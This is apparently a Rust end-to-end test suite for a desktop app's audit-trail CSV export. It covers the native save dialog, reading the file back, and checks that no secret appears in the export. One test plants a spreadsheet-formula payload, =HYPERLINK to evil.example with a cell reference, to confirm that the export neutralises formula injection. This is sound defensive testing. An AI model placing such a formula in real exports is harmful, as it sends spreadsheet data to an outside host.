//! Audit export in the real window: the Audit trail tab's Export, the native
//! save dialog (answered with a real key press), and the file read back.

use std::time::Duration;

use marketplace_sim::SimConfig;

use crate::support::AppUnderTest;
use crate::support::desktop::Desktop;
use crate::support::screen::{TOKEN_ROWS, button, role};

/// Return, as the keyboard sends it.
const RETURN: u32 = 0xff0d;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs a display and D-Bus: run under scripts/desktop-session.sh (make test does)"]
async fn a_tokens_trail_is_exported_through_the_native_save_dialog_and_reads_back() {
    let sim = marketplace_sim::start(SimConfig { tokens_per_account: 6, seed: 5, ..SimConfig::default() })
        .await
        .expect("sim");
    let app = AppUnderTest::launch().await;
    let connection = app.connect_as_vendor(&sim, "Export").await;
    // Two changes made by the app, so the sign-in token's own trail has them.
    let tokens = app
        .invoke("list_tokens", serde_json::json!({ "connectionId": connection["id"], "query": {} }))
        .await
        .expect("tokens");
    let other = tokens["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|t| {
            t["status"].as_str().is_some_and(|s| s.eq_ignore_ascii_case("active")) && t["id"] != connection["tokenId"]
        })
        .expect("another active token")["id"]
        .clone();
    for change in ["disable_token", "enable_token"] {
        let args = serde_json::json!({ "connectionId": connection["id"], "tokenId": other, "signInConfirmed": false });
        app.invoke(change, args).await.unwrap_or_else(|error| panic!("{change}: {error}"));
    }
    // The sign-in token's own trail: what this session did.
    app.click(&format!("{TOKEN_ROWS}[contains(., 'This connection')]")).await;
    app.click(&role("tab", "Audit trail")).await;
    app.wait_for(&role("radio", "Done to this token")).await;
    app.click(&role("radio", "Done by this token")).await;
    app.wait_for("//ol[@aria-label='Audit records, newest first']//button").await;

    app.click(&button("Export CSV…")).await;
    // Rust asks where, natively; the proposed name in the home folder is fine.
    let desktop = Desktop::open();
    let dialog = desktop.wait_for_window("Export the audit trail", Duration::from_secs(20)).await;
    app.screenshot("audit-export-dialog").await;
    desktop.press_in(dialog, &[RETURN]);
    let status = app.wait_for("//*[@role='status'][starts-with(normalize-space(), 'Exported')]").await;
    let shown = status.text().await.expect("the status text");
    app.screenshot("audit-export-done").await;
    let path = shown.split(" to ").nth(1).expect("the path").trim().to_owned();
    assert!(path.ends_with(".csv") && path.contains("audit-TKN-"), "{path}");

    let text = std::fs::read_to_string(&path).expect("the exported file");
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("time,event,actor,ip,country,user_agent,summary"));
    let rows: Vec<&str> = lines.collect();
    let records: usize =
        shown.split_whitespace().nth(1).and_then(|n| n.replace(',', "").parse().ok()).expect("a count");
    assert_eq!(rows.len(), records, "{text}");
    assert!(rows.iter().all(|row| row.contains("token-desk/")), "each record was made by the app: {text}");
    assert!(!text.contains("idt:"), "no secret in the export");
    drop(app);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs a display and D-Bus: run under scripts/desktop-session.sh (make test does)"]
async fn a_user_agent_written_as_a_formula_is_exported_as_text() {
    let sim = marketplace_sim::start(SimConfig { tokens_per_account: 4, seed: 6, ..SimConfig::default() })
        .await
        .expect("sim");
    let app = AppUnderTest::launch().await;
    let connection = app.connect_as_vendor(&sim, "Hostile").await;
    let tokens = app
        .invoke("list_tokens", serde_json::json!({ "connectionId": connection["id"], "query": {} }))
        .await
        .expect("tokens");
    let token = tokens["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|t| t["id"] != connection["tokenId"])
        .and_then(|t| t["id"].as_str())
        .expect("another token")
        .to_owned();
    // A client of the platform sends whatever user agent it likes; the audit trail keeps it.
    let formula = r#"=HYPERLINK("https://evil.example/?"&G2,"details")"#;
    let origin = marketplace_sim::CallOrigin {
        ip: "192.0.2.66".into(),
        user_agent: formula.into(),
        country_code: "GB".into(),
        country_name: "United Kingdom".into(),
        region: "Scotland".into(),
    };
    assert!(sim.record_token_activity(&token, &origin));

    app.fill("Search tokens", &token).await;
    app.click(&format!("{TOKEN_ROWS}[contains(., '{token}')]")).await;
    app.click(&role("tab", "Audit trail")).await;
    app.wait_for(&role("radio", "Done to this token")).await;
    app.click(&role("radio", "Done by this token")).await;
    app.wait_for("//ol[@aria-label='Audit records, newest first']//button").await;
    app.click(&button("Export CSV…")).await;
    let desktop = Desktop::open();
    let dialog = desktop.wait_for_window("Export the audit trail", Duration::from_secs(20)).await;
    desktop.press_in(dialog, &[RETURN]);
    let status = app.wait_for("//*[@role='status'][starts-with(normalize-space(), 'Exported')]").await;
    let shown = status.text().await.expect("the status text");
    let path = shown.split(" to ").nth(1).expect("the path").trim().to_owned();

    let text = std::fs::read_to_string(&path).expect("the exported file");
    // The cell, as CSV quotes it: the formula behind a `'`, its quotes doubled.
    let as_text = format!("\"'{}\"", formula.replace('"', "\"\""));
    assert!(text.contains(&as_text), "the formula is exported as text: {text}");
    for opening in [",=", ",\"="] {
        assert!(!text.contains(opening), "no cell starts a formula: {text}");
    }
    drop(app);
}
